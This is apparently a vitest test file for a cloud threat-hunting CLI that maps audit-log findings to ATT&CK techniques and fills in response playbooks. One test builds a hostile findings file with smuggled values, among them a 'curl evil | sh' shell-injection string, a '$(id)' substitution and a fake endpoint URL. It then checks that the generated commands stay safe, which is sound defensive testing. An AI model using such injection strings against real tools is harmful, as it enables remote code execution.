import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { nephoscope, program, temporaryFolder } from '../support/cli.ts';

const folder = temporaryFolder();

function write(name: string, text: string): string {
  const path = join(folder, name);
  writeFileSync(path, text);
  return path;
}

interface Line {
  readonly id: string;
  readonly kind: string;
  readonly guide?: string;
  readonly guides?: readonly string[];
  readonly incident?: string;
  readonly actors?: readonly { readonly id: string; readonly sources: readonly string[] }[];
  readonly rule?: { readonly title: string; readonly techniques: readonly string[] };
}

const hunted = nephoscope(['hunt', 'examples/aws', '-q', '-f', 'ndjson']).out;
const findings = write('findings.ndjson', hunted);
const lines = hunted
  .trim()
  .split('\n')
  .map((line) => JSON.parse(line) as Line);
const withDisk = lines.find(({ rule }) => rule?.title === 'Instance created with a disk from a snapshot');
const incident = lines.find(({ kind, guides = [] }) => kind === 'incident' && guides.length > 1);

describe('hunt', () => {
  it('leads from findings and incidents to the guide, and names who did it before', () => {
    expect(withDisk?.guide).toMatch(/^T1578\.00[12]$/);
    expect(incident?.guides).toEqual(expect.arrayContaining(['T1578.001', 'T1578.002']));
    expect(incident?.guides).not.toContain('T1578');
    const { actors = [] } = incident ?? {};
    expect(actors.map(({ id }) => id)).toEqual(expect.arrayContaining(['G1004', 'G1015', 'C0027']));
    expect(actors.flatMap(({ sources }) => sources)).toContain(
      'https://www.cisa.gov/news-events/cybersecurity-advisories/aa23-320a',
    );
  });

  it('says so in the table, in Markdown and in HTML; and nothing without a pack', () => {
    const table = nephoscope(['hunt', 'examples/aws', '-q', '-f', 'table']).out;
    expect(table).toContain(
      `→ nephoscope explain ${incident?.id.slice(0, 8)} PATH… --playbook · nephoscope show T1578.001`,
    );
    const markdown = nephoscope(['hunt', 'examples/aws', '-q', '-f', 'markdown']).out;
    expect(markdown).toContain('### What to do');
    expect(markdown).toContain(`- \`nephoscope explain ${incident?.id} PATH… --playbook\``);
    expect(nephoscope(['hunt', 'examples/aws', '-q', '-f', 'html']).out).toContain('<h4>What to do</h4>');
    const rules = 'packs/cloud-compute/rules/lineage';
    const bare = nephoscope(['hunt', 'examples/aws', '-q', '-f', 'ndjson', '--no-pack', '-r', rules]).out;
    expect(bare).toContain('"kind":"incident"');
    expect(bare).not.toContain('"guide');
  });
});

describe('show', () => {
  it('prints the page of a technique in each format', () => {
    const text = nephoscope(['show', 'T1578.002'], { env: { COLUMNS: '80' } });
    expect(text.code).toBe(0);
    expect(text.out).toContain('\nBLIND SPOTS AND ASSUMPTIONS\n');
    expect(nephoscope(['show', 't1578.002', '-f', 'markdown']).out).toMatch(
      /^# T1578\.002 Create Cloud Instance/,
    );
    expect(nephoscope(['show', 'T1578.002', '-f', 'html']).out).toMatch(/^<!DOCTYPE html>/);
    const data = JSON.parse(nephoscope(['show', 'T1578.002', '-f', 'json']).out) as { detections: unknown[] };
    expect(data.detections.length).toBeGreaterThan(5);
  });

  it('prints the rules as they are written on request', () => {
    expect(nephoscope(['show', 'T1535']).out).not.toContain('logsource:');
    expect(nephoscope(['show', 'T1535', '--with-rules']).out).toContain('logsource:');
  });

  it('prints a rule by name, id or title, and one document of several', () => {
    const byName = nephoscope(['show', 'new_account_launches']).out;
    expect(byName).toContain('name: new_account_launches');
    expect(byName).not.toContain('name: new_account_restores');
    expect(nephoscope(['show', '35c896c1-8ddf-513e-ab39-d68d98f548b5']).out).toBe(byName);
    expect(nephoscope(['show', 'new account launches an instance']).out).toBe(byName);
    const data = JSON.parse(nephoscope(['show', 'new_account_launches', '-f', 'json']).out) as {
      tests: object;
    };
    expect(data.tests).toMatchObject({ matching: expect.any(Number) });
  });

  it('lists what there is', () => {
    const { out } = nephoscope(['show']);
    expect(out).toContain('T1580      Cloud Infrastructure Discovery');
    expect(out).toContain('New account launches an instance');
    const data = JSON.parse(nephoscope(['show', '-f', 'json']).out) as {
      techniques: { playbook: boolean }[];
    };
    expect(data.techniques).toHaveLength(12);
    expect(data.techniques.every(({ playbook }) => playbook)).toBe(true);
  });

  it.each([
    [['show', 'T1578.02'], "Did you mean 'T1578.002'?"],
    [['show', 'new_acount_launches'], "Did you mean 'new_account_launches'?"],
    [['show', 'zzzzzzzzzz'], 'nephoscope show lists what there is'],
    [['show', '--playbook'], 'name the technique'],
    [['show', 'T1578.002', '--finding', 'x'], 'add --playbook'],
    [['show', 'T1578.002', '--playbook', '--id', 'abcdef'], 'name the file with --finding'],
    [['show', 'new_account_launches', '--playbook'], 'is a rule'],
    [['show', 'T1651', '--playbook'], 'there is no playbook for it'],
  ])('%j ends with 3', (args, message) => {
    const { code, err, out } = nephoscope(args);
    expect([code, out]).toEqual([3, '']);
    expect(err).toContain(message);
  });

  it('says when no guide is there, and prints what is known', () => {
    const { code, out, err } = nephoscope(['show', 'T1651']);
    expect(code).toBe(0);
    expect(err).toContain('no pack that is loaded has a guide for T1651');
    expect(out).toContain('Command run through the control plane');
  });

  it('writes a file, and no file over another', () => {
    const path = join(folder, 'page.html');
    expect(nephoscope(['show', 'T1485', '-o', path]).code).toBe(0);
    expect(readFileSync(path, 'utf8')).toContain('<h1>T1485 Data Destruction');
    expect(nephoscope(['show', 'T1485', '-o', path]).code).toBe(3);
    expect(nephoscope(['show', 'T1485', '-o', path, '--force']).code).toBe(0);
  });

  it("prints ATT&CK's own text from a bundle, with numbered references", () => {
    const bundle = write(
      'bundle.json',
      JSON.stringify({
        type: 'bundle',
        objects: [
          {
            type: 'attack-pattern',
            name: 'Create Cloud Instance',
            description:
              'See [Another](https://attack.mitre.org/techniques/T1) and <code>Run</code>.(Citation: A)',
            external_references: [
              { source_name: 'mitre-attack', external_id: 'T1578.002' },
              { source_name: 'A', description: 'Somebody.', url: 'https://example.com/a' },
            ],
          },
        ],
      }),
    );
    const { out } = nephoscope(['show', 'T1578.002', '--attack', bundle]);
    expect(out).toContain('See Another <https://attack.mitre.org/techniques/T1> and Run.[1]');
    expect(out).toContain('[1] Somebody. https://example.com/a');
    expect(nephoscope(['show', 'T1485', '--attack', bundle]).err).toContain('has no technique T1485');
    const none = nephoscope(['show', 'T1485', '--attack', findings]);
    expect([none.code, none.err]).toEqual([4, expect.stringContaining('cannot be read')]);
    expect(nephoscope(['show', 'T1485', '--attack', write('x.json', '{}')]).err).toContain(
      'expected a STIX bundle',
    );
  });
});

/** Every command of a playbook that is printed as data. */
function commandsIn(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap((one) => (typeof one === 'string' ? [] : commandsIn(one)));
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]: [string, unknown]) => {
    if (key !== 'run') return commandsIn(inner);
    return Array.isArray(inner) ? (inner as string[]) : [String(inner)];
  });
}

/** What a shell makes of commands: the words of each program that it calls, which are all stand-ins. */
function callsOf(commands: readonly string[]): string[][] {
  const programs = join(folder, 'bin');
  mkdirSync(programs);
  const log = join(programs, 'calls');
  for (const name of ['aws', 'az', 'gcloud', 'nephoscope', 'sha256sum', 'curl', 'sh', 'id']) {
    const path = join(programs, name);
    writeFileSync(path, `#!/bin/sh\nprintf '%s\\0' ${name} "$@" >> ${log}\nprintf '\\001\\0' >> ${log}\n`);
    chmodSync(path, 0o755);
  }
  const run = spawnSync('/bin/sh', ['-c', commands.join('\n')], {
    env: { PATH: programs },
    encoding: 'utf8',
  });
  expect([run.status, run.stderr]).toEqual([0, '']);
  const calls = readFileSync(log, 'utf8')
    .split('\u0001\0')
    .filter((one) => one !== '');
  expect(calls.length).toBe(commands.length);
  return calls.map((one) => one.split('\0').slice(0, -1));
}

describe('a playbook', () => {
  it('is printed for all clouds', () => {
    const { out, code } = nephoscope(['show', 'T1490', '--playbook']);
    expect(code).toBe(0);
    for (const part of ['[ANALYSIS]', '[CONTAINMENT]', '[ERADICATION]', '[RECOVERY]', '[POST-INCIDENT]'])
      expect(out).toContain(part);
    for (const program of ['aws ', 'az ', 'gcloud ']) expect(out).toContain(`    ${program}`);
    expect(out).toContain("--region '<REGION>'");
  });

  it('is filled in for a finding of a file', () => {
    const several = nephoscope(['show', 'T1578.002', '--playbook', '--finding', findings]);
    expect([several.code, several.err]).toEqual([3, expect.stringContaining('choose one with --id')]);
    const id = withDisk?.id.slice(0, 10) ?? '';
    const { out, code } = nephoscope(['show', 'T1578.002', '--playbook', '--finding', findings, '--id', id]);
    expect(code).toBe(0);
    expect(out).toContain('aws ec2 stop-instances --region eu-west-1 --instance-ids i-');
    expect(out).toContain('aws iam list-access-keys --user-name tess');
    expect(out).not.toContain('    gcloud ');
    const json = nephoscope([
      'show',
      'T1578.002',
      '--playbook',
      '--finding',
      findings,
      '--id',
      id,
      '-f',
      'json',
    ]).out;
    const data = JSON.parse(json) as { looks: { run: string[] }[] };
    expect(data).toMatchObject({ techniques: ['T1578.002'], for: { id: withDisk?.id } });
    expect(data.looks.length).toBeGreaterThan(5);
  });

  it('is filled in by explain for a finding and for an incident, which may need several', () => {
    const id = withDisk?.id ?? '';
    const one = nephoscope(['explain', id, 'examples/aws', '--playbook', '-q']).out;
    expect(one).toContain(`nephoscope explain ${id} examples/aws`);
    expect(one).toContain('principal.key   aws:arn:aws:iam::210987654321:user/tess');
    const all = nephoscope(['explain', incident?.id ?? '', 'examples/aws', '--playbook', '-q', '--json']).out;
    const plan = JSON.parse(all) as { techniques: string[]; phases: { steps: { action: string }[] }[] };
    expect(plan.techniques).toEqual(expect.arrayContaining(['T1578.001', 'T1578.002', 'T1578.003']));
    const actions = plan.phases.flatMap(({ steps }) => steps.map(({ action }) => action));
    expect(new Set(actions).size).toBe(actions.length);
  });

  it('asks questions that run as they are', () => {
    const { out } = nephoscope(['explain', withDisk?.id ?? '', 'examples/aws', '--playbook', '--json', '-q']);
    const { looks } = JSON.parse(out) as { looks: { title: string; run: string[] }[] };
    const asked = looks.flatMap(({ run }) => run.filter((one) => one.startsWith('nephoscope query ')));
    expect(asked.length).toBeGreaterThan(5);
    const ours = asked.map((one) => one.replace('nephoscope', `"${process.execPath}" ${program}`));
    const run = spawnSync('/bin/sh', ['-c', ours.join(' &&\n')], { encoding: 'utf8' });
    expect(run.status, run.stderr).toBe(0);
    const rows = run.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as object);
    // Who acts and what happened to the instance is found again.
    const principal = 'aws:arn:aws:iam::210987654321:user/tess';
    expect(rows).toContainEqual(expect.objectContaining({ Principal: principal, Operation: 'RunInstances' }));
    expect(rows).toContainEqual(
      expect.objectContaining({ Principal: principal, Events: expect.any(Number) }),
    );
  });

  it('puts nothing of a hostile finding into a command', () => {
    const [line = ''] = hunted.split('\n').filter((one) => one.includes(withDisk?.id ?? 'nothing'));
    const hostile = line
      .replaceAll(/i-0[0-9a-f]{16}/g, "i-0'; curl evil | sh; '")
      .replaceAll('user/tess', 'user/$(id)')
      .replaceAll('eu-west-1', '--endpoint-url=http://evil')
      .replaceAll('210987654321', '2109\\u001b[2J8');
    const path = write('hostile.ndjson', hostile);
    const { out, code } = nephoscope(['show', 'T1578.002', '--playbook', '--finding', path]);
    expect(code).toBe(0);
    expect(out).toContain("--instance-ids '<INSTANCE>'");
    expect(out).toContain('NOT FILLED IN');
    expect(out).not.toContain('\u001b');
    const data = nephoscope(['show', 'T1578.002', '--playbook', '--finding', path, '-f', 'json']).out;
    const calls = callsOf(commandsIn(JSON.parse(data)));
    expect(calls.length).toBeGreaterThan(50);
    for (const [program, ...words] of calls) {
      expect(['aws', 'az', 'gcloud', 'nephoscope', 'sha256sum']).toContain(program);
      expect(words.filter((word) => /^--endpoint-url|\p{Cc}/u.test(word.replaceAll('\n', ' ')))).toEqual([]);
      // Only questions have texts of the log in them, each one word.
      if (words[0] !== 'query') expect(words.join(' ')).not.toMatch(/evil|\$\(id\)/);
    }
    const asked = calls.filter(([, word]) => word === 'query').map((words) => words[2] ?? '');
    expect(asked.find((one) => one.includes('ILIKE'))).toContain("'%i-0''; curl evil | sh; ''%'");
    expect(asked.find((one) => one.includes('Principal ='))).toContain("Principal = '<PRINCIPAL>'");
  });

  it.each([
    ['', 'no finding in it (0 JSON values)'],
    ['{}\n[]', 'no finding in it (2 JSON values)'],
    ['{"a":', 'line 1 is no JSON'],
  ])('says what is wrong with a file: %j', (text, message) => {
    const path = write('bad.ndjson', text);
    const { code, err } = nephoscope(['show', 'T1578.002', '--playbook', '--finding', path]);
    expect([code, err]).toEqual([4, expect.stringContaining(message)]);
  });
});

describe('a pack of one’s own', () => {
  const pack = join(folder, 'my-pack');
  mkdirSync(join(pack, 'rules'), { recursive: true });
  mkdirSync(join(pack, 'guides'));
  writeFileSync(join(pack, 'pack.yml'), 'name: mine\n');
  writeFileSync(
    join(pack, 'rules', 'r.yml'),
    readFileSync('packs/cloud-compute/rules/lineage/instance-created-by-person.yml', 'utf8'),
  );
  writeFileSync(join(pack, 'guides', 'T1578.002.yml'), 'technique: T1578.002\ntitel: x\n');

  it('has its guides looked at by rules lint, and by show', () => {
    const lint = nephoscope(['rules', 'lint', '-p', pack]);
    expect(lint.code).toBe(2);
    expect(lint.out).toContain("guides/T1578.002.yml:2:1: error GUIDE_KEY_UNKNOWN: there is no key 'titel'");
    expect(lint.out).toContain('help: The keys are technique, title, description,');
    expect(lint.out).toContain('  2 | titel: x\n    | ^^^^^');
    const show = nephoscope(['show', 'T1578.002', '-p', pack]);
    expect([show.code, show.err]).toEqual([2, expect.stringContaining('GUIDE_KEY_MISSING')]);
  });
});
